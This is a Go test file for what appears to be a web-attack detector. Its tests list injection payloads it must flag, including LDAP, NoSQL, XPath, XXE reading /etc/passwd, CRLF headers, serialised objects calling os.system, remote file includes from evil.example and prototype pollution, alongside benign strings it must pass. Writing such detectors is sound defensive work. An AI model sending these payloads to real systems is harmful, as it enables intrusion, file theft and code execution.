package payload

import "testing"

func TestLDAP(t *testing.T) {
	finds(t, LDAP,
		"*)(uid=*))(|(uid=*", "*)(|(objectclass=*)", "admin)(&)", "admin)(&(password=*))", "x)(|(cn=*)", "*))(|(mail=*", "*)(&", "*)(!(uid=x)", "admin)(!(&(1=0)))", "*)(userPassword>=a", "foo*)(cn=b*", "a)(memberOf=cn=admins")
	clean(t, "(a)(b)", "smile :) (happy)", "f(x)(y)", "(&(objectClass=user)(cn=a*))", "a) first (b) second", "1) (2)", ":)(", "x)(y")
}

func TestNoSQL(t *testing.T) {
	finds(t, NoSQL,
		`{"$ne":null}`, `{"$gt":""}`, `{"user":{"$ne":"x"},"pass":{"$regex":"^a"}}`, `{$where:"sleep(1)"}`, `{"$where":"this.a==1"}`, `{ "$or" : [ {} ] }`, `';return true;var x='`, `'; while(1);var a='`, `' || this.password.match(/.*/)//`, `{'$ne':1}`)
	queries(t, NoSQL, "user[$ne]=1", "user%5B%24ne%5D=1", "user[$regex]=.*&x=1", "a[b][$exists]=true", `q={"age":{"$gt":5}}`)
	clean(t, "$ne", "$filter=name eq 'x'", "$100", "US$ or EUR", "$top=10", "cost: $in stock", `{"price":"$5"}`, "$scope.in", `{"currency":"$","in":[1,2]}`, `[{"id":1},{"id":2}]`, `{"filter":{"name":"O'Brien","age":{"gt":5}}}`,
		`{"query":"{ user(id: 1) { name } }"}`, "query { user(id: 1) { name email } }", "query($id: ID!) { node(id: $id) { ... on User { name } } }", `{"text":"he said \"or 1\" and left"}`, `{"a":[1,2,{"b":null}],"c":true}`)
	queries(t, 0, "$filter=name%20eq%20'Milk'%20and%20price%20lt%202.55&$top=5&$orderby=name%20desc", "filter[name]=x&filter[age][gte]=5&ids[]=1&ids[]=2", "$select=id,name&$expand=items($filter=price gt 5)")
}

func TestXPath(t *testing.T) {
	finds(t, XPath,
		"' or count(/*)=1 or 'a'='b", "' or string-length(name(/*[1]))=4 or 'a'='b", "x' or name()='username' or 'x'='y", "'] | //user/*[contains(*,'", "'] | //*[('a'='a", "1 or count(//user)>0", "' and substring(name(/*[1]),1,1)='u", "') or position()=1 or ('a'='b", "']/parent::*/child::node()['", "x']|//password|x['", "') or contains(name,'adm') or ('")
	clean(t, "count(items)", "name()", "the parent::child idea", "/shop/text", "position = 1", "a//b", "text()", "contains(Name,'Milk')", "startswith(name,'A') or contains(name,'Berlin')")
}

func TestXXE(t *testing.T) {
	finds(t, XXE,
		`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, `<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY>]>`, `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">`, `<!ENTITY % xxe "x">`, `<xi:include href="file:///etc/passwd"/>`)
	var a Analyser
	if got := a.Value([]byte("<!DOCTYPE html><p>x")); got&XXE != 0 {
		t.Errorf("a page's document type is %v", got)
	}
	clean(t, "doctype and entity", "xml system entities")
}

func TestCRLF(t *testing.T) {
	finds(t, CRLF,
		"x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "x\r\n\r\n<html>", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:a=b", "%0aX-Injected: 1", "x\rContent-Type: text/html", "/\r\nHTTP/1.1 200 OK", "%250d%250aSet-Cookie:a=b", "\r\n Content-Length: 0")
	queries(t, CRLF, "u=%0d%0aSet-Cookie:%20a=b", "lang=en%0aX-Injected:%20yes")
	clean(t, "line one\nline two", "Note:\nTo: bob", "Dear all,\r\n\r\nplease read: this", "a\r\nb", "list:\n- a\n- b")
	if got := new(Analyser).Path([]byte("/x%0d%0aSet-Cookie:a=b")); got != CRLF {
		t.Errorf("in a path: %v", got)
	}
}

func TestDeserialisation(t *testing.T) {
	finds(t, Deserialisation,
		"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced0005737200116a617661", `O:8:"stdClass":1:{s:1:"a";i:1;}`, `a:1:{i:0;O:4:"Evil":0:{}}`, `O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"`, "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [x]", "--- !ruby/object:Gem::Installer",
		"gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}`, `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`, `{"rce":"_$$ND_FUNC$$_function(){}()"}`, `{"@class":"java.util.HashMap"}`)
	clean(t, `{"@type":"Person","name":"x"}`, `{"@context":"https://schema.org","@type":"Product"}`, "a:2:b", "ratio 4:3", "rOOM", "gas price", "!important", "Hello!! python fans", "java.util", "H4sIAAAAAAAA", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig", `{"$type":"Feature"}`)
	queries(t, Deserialisation, "data=%AC%ED%00%05sr%00%11", "x=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D")
}

func TestFileInclusion(t *testing.T) {
	finds(t, FileInclusion,
		"php://filter/convert.base64-encode/resource=index.php", "php://input", "PHP://INPUT", "data://text/plain;base64,PD9waHA=", "data:text/plain,<?php", "expect://id", "zip://x.zip#y.php", "phar://x.phar", "compress.zlib://x", "data:;base64,PD9waHA=")
	queries(t, FileInclusion, "page=http://evil.example/shell.txt", "file=http://evil.example/x.php?", "template=https://evil.example/a/b.txt", "page=http%3A%2F%2F203.0.113.7%2Fx")
	queries(t, 0, "url=http://example.com/notes.txt", "file=https://cdn.example.com/doc.pdf", "page=2", "image=data:image/png;base64,iVBORw0KGgo=", "next=https://example.com/index.php")
	clean(t, "php programming", "zip code", "data: none", "expect the best", "data science")
}

func TestPrototype(t *testing.T) {
	finds(t, Prototype, `{"__proto__":{"admin":true}}`, "__proto__[admin]", "a.__proto__.b", "constructor[prototype][x]", "constructor.prototype.x", `{"constructor":{"prototype":{"x":1}}}`, "x[__proto__]")
	queries(t, Prototype, "__proto__[admin]=1", "__proto__.admin=1", "a[constructor][prototype][b]=1", "__proto__%5Bx%5D=1")
	clean(t, "what is __proto__", "prototype pattern", "constructor function", "__init__", "class constructor", "proto3.syntax")
}
